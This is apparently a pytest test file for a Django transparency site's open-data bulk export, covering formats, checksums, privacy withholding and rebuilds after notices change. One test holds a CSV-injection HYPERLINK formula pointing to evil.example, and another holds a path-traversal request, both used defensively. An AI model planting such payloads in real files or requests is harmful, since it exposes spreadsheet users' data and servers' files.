"""The bulk files: a valid Frictionless data package, loadable into DuckDB, never more than the public record."""

from __future__ import annotations

import csv
import gzip
import hashlib
import html
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation

from rightsdesk.cases import choices as c
from rightsdesk.laws.models import CaseInstrument, Instrument, LawType, PublicRecordInstrument
from rightsdesk.opendata import bulk
from rightsdesk.transparency.models import PublicRecord

from .conftest import publish_all, utc

pytestmark = pytest.mark.django_db

TABLES = ["notices", "notice_items", "notice_instruments", "report_figures", "cases"]


@pytest.fixture
def published(decided_case):
    """Seven published notices decided in 2026-H1, one case still open, one harm report (never in the case table)."""
    for n in range(7):
        decided_case(c.Kind.COPYRIGHT_NOTICE if n % 2 else c.Kind.CONTENT_TAKEDOWN,
                     outcome=c.Outcome.GRANTED if n % 3 else c.Outcome.REJECTED, actions=[c.Action.REMOVE],
                     country="BR" if n < 5 else "NZ", received_at=utc(2026, 2, 1 + n, 9),
                     decided_at=utc(2026, 3, 1 + n, 15, 30))
    publish_all()
    # Published when their cases were decided (not at the test's own time): a release built "on 3 December 2026"
    # then holds them as they are (bulk.holds_stale compares the times).
    for record in PublicRecord.objects.select_related("case"):
        PublicRecord.objects.filter(pk=record.pk).update(published_at=record.case.decided_at,
                                                         texts_written_at=record.case.decided_at)
    dmca, _ = Instrument.objects.get_or_create(key="test-us-dmca-512", defaults={
        "jurisdiction": "US", "name": "Digital Millennium Copyright Act", "short_name": "DMCA", "provision": "512(c)",
        "law_type": LawType.COPYRIGHT})
    for record in PublicRecord.objects.listed().select_related("case"):
        if record.kind == c.Kind.COPYRIGHT_NOTICE:
            PublicRecordInstrument.objects.get_or_create(record=record, instrument=dmca)
            CaseInstrument.objects.get_or_create(case=record.case, instrument=dmca,
                                                 defaults={"confirmed_at": record.published_at})
    return PublicRecordInstrument.objects.count() and PublicRecord.objects.listed().count()


def _release(tmp_path, now=utc(2026, 12, 3)) -> tuple[Path, dict]:
    out = tmp_path / "release"
    package = bulk.write_release(out, now=now)
    return out, package


def test_every_table_is_written_as_csv_jsonl_and_parquet_with_a_sha256_per_file(published, tmp_path):
    out, package = _release(tmp_path)
    names = {res["path"] for res in package["resources"]}
    assert names == {f"{t}{suffix}" for t in TABLES for suffix in (".csv.gz", ".jsonl.gz", ".parquet")}
    for res in package["resources"]:
        data = (out / res["path"]).read_bytes()
        assert res["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert res["bytes"] == len(data)
        assert res["schema"]["fields"], res["name"]
        assert res["licenses"][0]["name"] in {"CC0-1.0", "CC-BY-4.0"}
    by_name = {res["name"]: res for res in package["resources"]}
    assert by_name["report-figures-csv"]["licenses"][0]["name"] == "CC0-1.0"
    assert by_name["cases-parquet"]["licenses"][0]["name"] == "CC0-1.0"
    assert package["changelog"][0]["version"] == bulk.FORMAT_VERSION
    assert "## 1.0.0" in (out / "CHANGELOG.md").read_text()


def test_each_csv_file_is_utf8_without_a_byte_order_mark_as_its_descriptor_says(published, decided_case, tmp_path):
    """docs/open-data.md, "Encoding": every CSV resource declares ``encoding: utf-8``, and its bytes, decompressed,
    are UTF-8 with no byte-order mark (EF BB BF), which many readers take into the first column's name; a title in
    Arabic is written as UTF-8, not in a legacy code page."""
    decided_case(c.Kind.CONTENT_TAKEDOWN, subject="حذف صورة من مقالة عن النهر")
    publish_all()
    out, package = _release(tmp_path)
    csv_resources = [res for res in package["resources"] if res["format"] == "csv"]
    assert {res["path"] for res in csv_resources} == {f"{t}.csv.gz" for t in TABLES}
    for res in csv_resources:
        assert res["encoding"] == "utf-8" and res["mediatype"] == "text/csv", res["name"]
        data = gzip.decompress((out / res["path"]).read_bytes())
        assert not data.startswith(b"\xef\xbb\xbf"), f"{res['path']} begins with a byte-order mark"
        header = data.decode("utf-8").split("\r\n", 1)[0]
        assert header.split(",")[0] == res["schema"]["fields"][0]["name"], res["path"]
    notices = gzip.decompress((out / "notices.csv.gz").read_bytes()).decode("utf-8")
    assert "حذف صورة من مقالة عن النهر" in notices


def test_the_data_package_validates_with_frictionless(published, tmp_path):
    """Schemas, types, enums, keys and foreign keys, and for CSV and JSON Lines the bytes and sha256 too.

    Frictionless reads Parquet through pandas and cannot count its bytes: there the checksums are checked by the
    test above, and frictionless checks the rest."""
    from frictionless import Checklist, validate

    out, package = _release(tmp_path)
    report = validate(str(out / "datapackage.json"), checklist=Checklist(skip_errors=["byte-count", "hash-count"]))
    problems = [(task.name, error.message) for task in report.tasks for error in task.errors]
    assert report.valid, problems[:10]
    assert {task.name for task in report.tasks} == {res["name"] for res in package["resources"]}
    text_only = {**package, "resources": [r for r in package["resources"] if r["format"] != "parquet"]}
    (out / "text-only.json").write_text(json.dumps(text_only))
    report = validate(str(out / "text-only.json"))
    assert report.valid, [(t.name, e.message) for t in report.tasks for e in t.errors][:10]
    tampered = out / "notices.csv.gz"
    tampered.write_bytes(tampered.read_bytes()[:-8] + b"\0" * 8)
    assert not validate(str(out / "text-only.json")).valid  # a changed file fails its checksum


def test_duckdb_counts_as_many_notices_as_the_public_log(published, tmp_path, client):
    import duckdb

    out, _package = _release(tmp_path)
    log_count = client.get("/api/v1/notices").json()["count"]
    assert log_count == published == 7
    con = duckdb.connect()
    for path in ("notices.csv.gz", "notices.jsonl.gz", "notices.parquet"):
        reader = {"csv": "read_csv", "jso": "read_json", "par": "read_parquet"}[path.split(".")[1][:3]]
        (count,) = con.execute(f"SELECT count(*) FROM {reader}(?)", [str(out / path)]).fetchone()
        assert count == log_count, path
    (items,) = con.execute("SELECT count(*) FROM read_parquet(?) i JOIN read_parquet(?) n USING (public_id)",
                           [str(out / "notice_items.parquet"), str(out / "notices.parquet")]).fetchone()
    assert items == 7
    (decided,) = con.execute("SELECT max(decided_on) FROM read_parquet(?)", [str(out / "notices.parquet")]).fetchone()
    assert str(decided) == "2026-03-07"


def test_the_case_table_has_no_free_text_and_withholds_rare_countries(published, make_case, tmp_path):
    make_case(c.Kind.HARM_REPORT, country="NZ")
    out, _package = _release(tmp_path)
    with gzip.open(out / "cases.jsonl.gz", "rt") as handle:
        rows = [json.loads(line) for line in handle]
    assert len(rows) == 7  # the harm report is left out
    assert set(rows[0]) == {"row", "kind", "country", "requester_type", "instruments", "channel", "received_on",
                            "decided_on", "closed_on", "outcome"}
    # Five Brazilian content requests would single no one out... but they are split by kind: 3 takedowns, 2 notices.
    countries = {(r["kind"], r["country"]) for r in rows}
    assert all(country in {"", bulk.WITHHELD_COUNTRY} or kind for kind, country in countries)
    assert {r["country"] for r in rows} == {bulk.WITHHELD_COUNTRY}
    assert rows[0]["received_on"] == "2026-02-01" and rows[0]["decided_on"] == "2026-03-01"


def test_a_title_a_spreadsheet_would_run_is_text_in_the_csv_and_as_published_in_the_other_formats(published, tmp_path):
    """CSV injection (CWE-1236): the redaction review passes a title; opening notices.csv must not run it
    (core.cells). JSON Lines and Parquet, read by programs, carry the title exactly as published."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    PublicRecord.objects.update(title=attack)
    out, _package = _release(tmp_path)
    with gzip.open(out / "notices.csv.gz", "rt", newline="") as handle:
        titles = {row["title"] for row in csv.DictReader(handle)}
    with gzip.open(out / "notices.jsonl.gz", "rt") as handle:
        exact = {json.loads(line)["title"] for line in handle}
    assert titles == {"'" + attack}
    assert exact == {attack}


def test_figures_are_the_public_report_with_small_counts_withheld(published, tmp_path):
    out, _package = _release(tmp_path)
    with gzip.open(out / "report_figures.csv.gz", "rt", encoding="utf-8") as handle:
        text = handle.read()
    lines = text.splitlines()
    assert lines[0] == "period,section,table,row,column,value,shown,suppressed"
    assert all(line.startswith("2026-H1,") for line in lines[1:])
    # 2026-H1 is a standard period: every figure exact, none withheld.
    assert ",true" not in text
    assert "2026-H1,overview," in text


def test_export_command_writes_the_same_set(published, tmp_path):
    err = io.StringIO()
    call_command("export", "opendata", "--out", str(tmp_path / "set"), stderr=err)
    package = json.loads((tmp_path / "set" / "datapackage.json").read_text())
    assert len(package["resources"]) == 15 and "written to" in err.getvalue()


def test_the_daily_run_writes_latest_and_each_closed_half_year(published, _data_dir):
    done = bulk.regenerate(now=utc(2026, 12, 3))
    assert done["periods"] == ["2026-H1"]
    assert (_data_dir / "latest" / "datapackage.json").exists()
    period_package = json.loads((_data_dir / "periods" / "2026-H1" / "datapackage.json").read_text())
    assert period_package["period"]["slug"] == "2026-H1"
    assert bulk.regenerate(now=utc(2026, 12, 4))["periods"] == []  # a closed half-year is written once


def test_the_data_page_lists_each_file_with_size_checksum_and_licence(published, client, _data_dir):
    bulk.regenerate(now=utc(2026, 12, 3))
    page = client.get(reverse("opendata:data")).content.decode()
    package = json.loads((_data_dir / "latest" / "datapackage.json").read_text())
    for res in package["resources"]:
        assert res["path"] in page and res["hash"].removeprefix("sha256:") in page
    assert "CC0-1.0" in page and "CC-BY-4.0" in page and "2026-H1" in page
    download = client.get(reverse("opendata:download", args=["latest", "notices.parquet"]))
    assert download.status_code == 200
    assert hashlib.sha256(b"".join(download.streaming_content)).hexdigest() == \
        package["resources"][2]["hash"].removeprefix("sha256:")
    assert client.get(reverse("opendata:download", args=["latest", "secret_key"])).status_code == 404
    assert client.get("/en/data/latest/..%2Fsecret_key").status_code == 404


@pytest.mark.parametrize(("language", "words"), [
    ("en", "Dec. 3, 2026, 2:05 p.m."),
    ("fr", "3 décembre 2026 14:05"),
    ("ar", "ديسمبر"),
])
def test_the_data_page_says_when_the_files_were_built_in_the_readers_words(
        published, client, _data_dir, language, words):
    bulk.regenerate(now=utc(2026, 12, 3, 14, 5))
    with translation.override(language):
        page = client.get(reverse("opendata:data")).content.decode()
    assert words in page
    assert 'datetime="2026-12-03T14:05:00Z"' in page  # the machine-readable moment stays ISO 8601
    assert ">2026-12-03T14:05:00Z<" not in page


def test_the_task_worker_rebuilds_daily_and_queues_its_next_run(published, _data_dir, settings):
    from datetime import timedelta

    from django.utils import timezone
    from django_tasks_db.models import DBTaskResult

    from rightsdesk.opendata import tasks

    assert tasks.schedule_daily() is True and tasks.schedule_daily() is False  # one loop at a time
    DBTaskResult.objects.all().delete()
    tasks.regenerate_daily.call()
    assert (_data_dir / "latest" / "notices.parquet").exists()
    waiting = DBTaskResult.objects.get(task_path=tasks.regenerate_daily.module_path, status="READY")
    assert timezone.now() + timedelta(hours=23) < waiting.run_after <= timezone.now() + timedelta(hours=24)
    settings.RIGHTSDESK_OPENDATA = {**settings.RIGHTSDESK_OPENDATA, "REGENERATE_HOURS": 0}
    DBTaskResult.objects.all().delete()
    assert tasks.schedule_daily() is False  # 0: only by command


def _public_ids(release: Path) -> set[str]:
    with gzip.open(release / "notices.csv.gz", "rt", newline="") as handle:
        return {row["public_id"] for row in csv.DictReader(handle)}


def test_a_withdrawn_notice_leaves_every_release_the_data_page_serves_at_once(published, _data_dir, make_staff,
                                                                             settings,
                                                                             django_capture_on_commit_callbacks):
    """Withdrawal is the remedy when something private was published: a closed half-year's release, written once,
    and latest/, written daily, would otherwise keep serving the notice (the first for ever)."""
    from rightsdesk.transparency import publishing

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    bulk.regenerate(now=utc(2026, 12, 3))
    latest, half_year = _data_dir / "latest", _data_dir / "periods" / "2026-H1"
    record = PublicRecord.objects.listed().order_by("sort_key").first()
    assert record.public_id in _public_ids(latest) and record.public_id in _public_ids(half_year)

    with django_capture_on_commit_callbacks(execute=True):
        publishing.unpublish(record, make_staff("legal approver"), "It named the requester's home address.")

    assert record.public_id not in _public_ids(latest) and record.public_id not in _public_ids(half_year)
    assert len(_public_ids(half_year)) == published - 1  # the others stay
    # Written again, the releases hold no withdrawn notice: the daily run leaves the half-year alone.
    assert not bulk.holds_stale(half_year, bulk.closed_half_years()[0])
    assert bulk.regenerate()["periods"] == []


def test_the_daily_run_writes_again_a_half_year_that_holds_a_withdrawn_notice(published, _data_dir, make_staff):
    """Should the prompt rebuild not have run (the worker down), the next daily run catches it."""
    from rightsdesk.transparency import publishing

    bulk.regenerate(now=utc(2026, 12, 3))
    record = PublicRecord.objects.listed().order_by("sort_key").first()
    publishing.unpublish(record, make_staff("legal approver"), "It named the requester's home address.")  # no commit
    assert bulk.regenerate()["periods"] == ["2026-H1"]
    assert record.public_id not in _public_ids(_data_dir / "periods" / "2026-H1")


def _bodies(release: Path) -> dict[str, str]:
    with gzip.open(release / "notices.csv.gz", "rt", newline="") as handle:
        return {row["public_id"]: row["body"] for row in csv.DictReader(handle)}


#: Written by a requester who is not a party of record, so only the rules (not the case's known data) find it.
TEXT = "Please remove the photo. Contact: Kwame Dubois, k.dubois@example.net, for the rights holder."


def _published_under_older_rules(decided_case, publish, monkeypatch):
    """A notice approved and published, decided in 2026-H1, while the rules did not recognise names and addresses."""
    from rightsdesk.privacy import redaction

    real = redaction.find_spans_in_texts

    def older(texts, known=None, policy=None):
        return {key: [s for s in spans if s.type not in ("NAME", "EMAIL")]
                for key, spans in real(texts, known, policy).items()}

    case = decided_case(description=TEXT, received_at=utc(2026, 2, 20, 9), decided_at=utc(2026, 3, 20, 15))
    with monkeypatch.context() as patch:
        patch.setattr(redaction, "find_spans_in_texts", older)
        notice = publish(case)
    PublicRecord.objects.filter(pk=notice.pk).update(published_at=utc(2026, 3, 21), texts_written_at=utc(2026, 3, 21))
    assert "k.dubois@example.net" in notice.body
    return notice


@pytest.mark.parametrize("how", ["the redaction re-check", "staff publishing again"])
def test_a_notice_whose_texts_are_written_again_leaves_every_release_as_it_was_at_once(
        how, published, _data_dir, decided_case, publish, approver, monkeypatch, settings,
        django_capture_on_commit_callbacks):
    """Redacting further is the remedy when personal data was published: a closed half-year's release, written once,
    and latest/, written daily, would otherwise keep serving the notice as it was (the first for ever)."""
    from rightsdesk.transparency import publishing

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    notice = _published_under_older_rules(decided_case, publish, monkeypatch)
    bulk.regenerate(now=utc(2026, 12, 3))
    latest, half_year = _data_dir / "latest", _data_dir / "periods" / "2026-H1"
    assert "k.dubois@example.net" in _bodies(latest)[notice.public_id]
    assert "k.dubois@example.net" in _bodies(half_year)[notice.public_id]

    with django_capture_on_commit_callbacks(execute=True):
        if how == "the redaction re-check":
            assert publishing.recheck_published()["redacted_further"] == 1
        else:  # a reader wrote in: staff redact the address in the editor and publish again
            review = publishing.propose_redaction(notice.case, approver)
            publishing.add_phrase(review, approver, "body", "k.dubois@example.net", "EMAIL")
            publishing.add_phrase(review, approver, "body", "Kwame Dubois", "NAME")
            publishing.approve_redaction(review, approver)
            publishing.publish(notice.case, approver)

    for release in (latest, half_year):
        body = _bodies(release)[notice.public_id]
        assert "k.dubois@example.net" not in body and "Kwame" not in body and "[EMAIL]" in body
        assert len(_bodies(release)) == published + 1  # the others stay
    assert bulk.regenerate()["periods"] == []  # written again, nothing left for the daily run


def test_the_daily_run_writes_again_a_half_year_holding_a_notice_written_again_since(
        published, _data_dir, decided_case, publish, monkeypatch):
    """Should the prompt rebuild not have run (the worker down), the next daily run catches it; and a notice first
    published after its half-year's release was written joins it."""
    from rightsdesk.transparency import publishing

    notice = _published_under_older_rules(decided_case, publish, monkeypatch)
    bulk.regenerate(now=utc(2026, 12, 3))
    assert publishing.recheck_published()["redacted_further"] == 1  # its follow-up's task never runs here
    assert bulk.regenerate()["periods"] == ["2026-H1"]
    assert "k.dubois@example.net" not in _bodies(_data_dir / "periods" / "2026-H1")[notice.public_id]

    late = decided_case(received_at=utc(2026, 4, 1, 9), decided_at=utc(2026, 5, 1, 9))
    late_notice = publish(late)
    assert late_notice.public_id not in _public_ids(_data_dir / "periods" / "2026-H1")
    assert bulk.regenerate()["periods"] == ["2026-H1"]
    assert late_notice.public_id in _public_ids(_data_dir / "periods" / "2026-H1")


def test_a_release_read_before_the_change_committed_is_written_again_by_the_changes_task(published, _data_dir):
    """A release built while a withdrawal or a rewrite was being committed did not see it, yet is dated after the
    change was made: the change's own task writes again the releases of its notices unless built after it committed."""
    record = PublicRecord.objects.listed().order_by("sort_key").first()
    bulk.regenerate(now=utc(2026, 12, 3))
    half_year = _data_dir / "periods" / "2026-H1"
    assert bulk.after_change([record.pk], committed_at=utc(2026, 12, 2)) == {"latest": None, "periods": []}
    written = bulk.after_change([record.pk], committed_at=utc(2026, 12, 4))
    assert written["periods"] == ["2026-H1"] and written["latest"] is not None
    assert (half_year / "datapackage.json").exists()


def _decided_on(release: Path) -> dict[str, str]:
    with gzip.open(release / "notices.csv.gz", "rt", newline="") as handle:
        return {row["public_id"]: row["decided_on"] for row in csv.DictReader(handle)}


def _decided_anew_and_published_again(case, approver, make_staff, publish):
    """How publishing again moves a notice's day: an appeal reopens the decision (the case's decided_at is cleared,
    cases.workflow), staff decide anew (stamped today) and publish again: ``transparency.publishing._publish``
    writes ``decided_on`` from the new decided_at, in a half-year other than the one whose release holds the notice."""
    from django.utils import timezone

    from rightsdesk.appeals import services as appeals
    from tests.flows import decide_as_staff

    appeals.reopen(case, approver, reason="The requester's appeal was granted.")
    decide_as_staff(case, approver, make_staff("legal approver"), summary="Granted on appeal.")
    notice = publish(case)
    assert notice.decided_on == timezone.now().date()
    return notice


#: The half-year the notices were decided in, the one the re-dated notice is decided in now, and a day after both
#: closed.
OLD, NEW, LATER = "2026-H1", "2026-H2", utc(2027, 1, 5)


@pytest.mark.parametrize(("caught_by", "the_daily_run_then_writes"), [
    ("the change's own task", [NEW]),  # the old half-year was written again at once: only the new one is missing
    ("the daily run", [OLD, NEW]),  # the task never ran (the worker down): the daily run writes both
])
def test_a_notice_decided_anew_in_another_half_year_leaves_the_old_half_years_release(
        caught_by, the_daily_run_then_writes, published, _data_dir, approver, make_staff, publish, settings,
        django_capture_on_commit_callbacks):
    """The old half-year's release held the notice with its old day and its old texts; checked by the notice's day
    now, it was never written again and the notice stood in two releases, its old texts for ever in the first."""
    bulk.regenerate(now=utc(2026, 12, 3))
    old = _data_dir / "periods" / OLD
    record = PublicRecord.objects.listed().select_related("case").order_by("sort_key").first()
    assert _decided_on(old)[record.public_id].startswith("2026-03")

    if caught_by == "the change's own task":
        settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
        with django_capture_on_commit_callbacks(execute=True):
            notice = _decided_anew_and_published_again(record.case, approver, make_staff, publish)
    else:
        notice = _decided_anew_and_published_again(record.case, approver, make_staff, publish)  # no commit
    assert bulk.regenerate(now=LATER)["periods"] == the_daily_run_then_writes

    assert notice.public_id not in _public_ids(old) and len(_public_ids(old)) == published - 1
    for release in (_data_dir / "periods" / NEW, _data_dir / "latest"):
        assert _decided_on(release)[notice.public_id] == notice.decided_on.isoformat()
    assert bulk.regenerate(now=LATER)["periods"] == []  # each release holds it as it is now: nothing left


def _published_when_decided(notice: PublicRecord) -> PublicRecord:
    """Published when its case was decided, as the ``published`` fixture's: before a release built "on 3 December"."""
    PublicRecord.objects.filter(pk=notice.pk).update(published_at=notice.case.decided_at,
                                                     texts_written_at=notice.case.decided_at)
    return notice


#: A notice decided in the half-year, or in another one and never in it, first published after the release was
#: built, or published before and its texts written again since.
IN_IT, ELSEWHERE, FIRST_SINCE, WRITTEN_AGAIN_SINCE = "in the half-year", "in another half-year", "first", "again"


@pytest.mark.parametrize(("notices_table", "changed_notice_decided", "notice_published", "written_again"), [
    ("as built", IN_IT, FIRST_SINCE, True),  # it joins the release
    ("as built", ELSEWHERE, FIRST_SINCE, False),
    ("as built", ELSEWHERE, WRITTEN_AGAIN_SINCE, False),  # looked up in the release's notices table: not there
    ("unreadable", IN_IT, FIRST_SINCE, True),  # as before: its day says the release may hold it
    ("unreadable", ELSEWHERE, FIRST_SINCE, False),  # created after the release was read: not in it, whatever its table
    ("unreadable", ELSEWHERE, WRITTEN_AGAIN_SINCE, True),  # which it holds cannot be told: written again
    # built before .built named the last record: which notices are newer cannot be told either, as before
    ("unreadable, built before the last record was written down", ELSEWHERE, FIRST_SINCE, True),
])
def test_a_half_years_release_is_written_again_when_it_may_hold_a_notice_changed_since(
        notices_table, changed_notice_decided, notice_published, written_again, published, _data_dir, decided_case,
        publish):
    """What a release holds is read from its own notices table, so a notice decided elsewhere and never in it does
    not make it be written again; a release whose table cannot be read is judged by the notices' days as before,
    and written again when a notice it may hold changed since anywhere (it is then readable). A notice first
    published after the release was built is not in it: only its day can make the release be written again."""
    from django.utils import timezone

    decided = utc(2026, 3, 25, 9) if changed_notice_decided == IN_IT else utc(2025, 11, 25, 9)
    if notice_published == WRITTEN_AGAIN_SINCE:
        notice = _published_when_decided(publish(decided_case(received_at=decided - timedelta(days=10),
                                                              decided_at=decided)))
    bulk.regenerate(now=utc(2026, 12, 3))
    half_year = _data_dir / "periods" / OLD
    if notices_table.startswith("unreadable"):
        (half_year / "notices.parquet").unlink()
    if notices_table.endswith("written down"):
        (half_year / bulk.BUILT).write_text((half_year / bulk.BUILT).read_text().split()[0])
    if notice_published == WRITTEN_AGAIN_SINCE:
        PublicRecord.objects.filter(pk=notice.pk).update(texts_written_at=timezone.now())  # redacted further
    else:
        publish(decided_case(received_at=decided - timedelta(days=10), decided_at=decided))  # published today
    assert bulk.holds_stale(half_year, bulk.closed_half_years()[-1]) is written_again


@pytest.mark.parametrize("ids_per_query", [2000, 1])  # 1: more notices changed since than one look-up names
def test_a_notice_moved_out_of_a_half_year_is_found_among_many_changed_since_in_other_half_years(
        ids_per_query, published, _data_dir, decided_case, publish, monkeypatch):
    """Many notices decided in other half-years, published before an old half-year's release and written again since
    (redacted further): the release's ids are then looked up in batches rather than every changed notice read."""
    from datetime import date

    from django.utils import timezone

    elsewhere = [_published_when_decided(publish(decided_case(received_at=utc(2025, 11, day - 10, 9),
                                                              decided_at=utc(2025, 11, day, 9))))
                 for day in (20, 25)]
    bulk.regenerate(now=utc(2026, 12, 3))
    half_year, period = _data_dir / "periods" / OLD, bulk.closed_half_years()[-1]
    monkeypatch.setattr(bulk, "_IDS_PER_QUERY", ids_per_query, raising=False)
    PublicRecord.objects.filter(pk__in=[n.pk for n in elsewhere]).update(texts_written_at=timezone.now())
    assert not bulk.holds_stale(half_year, period)
    moved = PublicRecord.objects.listed().filter(decided_on__gte=date(2026, 1, 1)).first()
    PublicRecord.objects.filter(pk=moved.pk).update(decided_on=date(2026, 9, 1), texts_written_at=timezone.now())
    assert bulk.holds_stale(half_year, period)


@pytest.mark.parametrize(("first_published_since", "ids_per_query"), [
    (0, 2),
    (5, 2),  # more than one look-up names: before, the release's 7 ids were looked up, 2 at a time, every day
    (5, 2000),
])
def test_notices_first_published_after_an_old_half_years_release_are_not_looked_up_in_it(
        first_published_since, ids_per_query, published, _data_dir, decided_case, publish, monkeypatch):
    """A notice first published after a release was built is not in it, so however many there are (every notice
    published since, decided in another half-year), the daily run's check of an old half-year makes as many queries
    as when there are none: it does not grow with the log."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    bulk.regenerate(now=utc(2026, 12, 3))
    monkeypatch.setattr(bulk, "_IDS_PER_QUERY", ids_per_query, raising=False)
    with CaptureQueriesContext(connection) as none_since:
        assert bulk.rebuild_periods() == []
    for n in range(first_published_since):
        publish(decided_case(received_at=utc(2025, 10, 1 + n, 9), decided_at=utc(2025, 11, 1 + n, 9)))

    with CaptureQueriesContext(connection) as daily_check:
        assert bulk.rebuild_periods() == []  # 2026-H1 not written again; 2025-H2, still missing, is not checked
    assert len(daily_check.captured_queries) == len(none_since.captured_queries)


@pytest.mark.parametrize(("path", "status", "length_of"), [
    ("/en/data/", 200, None),
    ("/en/data/latest/notices.parquet", 200, "latest/notices.parquet"),
    ("/en/data/2026-H1/notices.csv.gz", 200, "periods/2026-H1/notices.csv.gz"),
    ("/en/data/latest/datapackage.json", 200, "latest/datapackage.json"),
    ("/en/data/latest/nope.csv", 404, None),
    ("/en/data/2025-H1/notices.csv.gz", 404, None),
])
def test_a_head_request_is_answered_as_the_get_would_be_without_the_body(
        published, client, _data_dir, path, status, length_of):
    """Link checkers, ``curl -I`` and download managers ask HEAD first (is the file there, how big is it): the
    answer is the GET's status and headers, not 405."""
    bulk.regenerate(now=utc(2026, 12, 3))
    response = client.head(path)
    assert response.status_code == status
    if length_of:
        assert int(response["Content-Length"]) == (_data_dir / length_of).stat().st_size
    assert client.post(path).status_code == 405  # nothing else than reading


@pytest.mark.parametrize("language", [code for code, _name in settings.LANGUAGES])
@pytest.mark.parametrize("path", ["latest/nope.csv", "2025-H1/notices.csv.gz"])
def test_an_unknown_download_answers_the_public_error_page_in_the_readers_language(client, language, path):
    """The file's own 404 text (English, for the log) is never what the reader sees: the site's error page is, in
    the language of the address, as for any address with nothing there."""
    response = client.get(f"/{language}/data/{path}")
    body = response.content.decode()
    with translation.override(language):
        heading = translation.gettext("Page not found")
    assert response.status_code == 404 and f'lang="{language.lower()}"' in body.lower()
    assert f"<h1>{html.escape(heading)}</h1>" in body and "No such file in the open data" not in body
